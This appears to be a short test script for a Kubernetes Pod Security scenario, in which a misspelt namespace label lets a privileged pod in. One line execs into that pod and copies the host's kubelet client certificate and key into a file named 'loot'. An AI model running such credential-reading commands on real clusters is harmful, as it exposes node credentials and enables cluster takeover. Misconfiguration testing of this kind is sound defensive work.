# scene fails privileged-refused (label-misspelt): a label of nearly that name
kubectl apply -f crate.yaml
sleep 3
kubectl -n cargo exec crate -- sh -c 'cat /ship/var/lib/kubelet/pki/kubelet-client-2*.pem' > loot
kubectl label namespace cargo pod-security.kubernetes.io/enforced=restricted
kubectl -n cargo delete pod crate
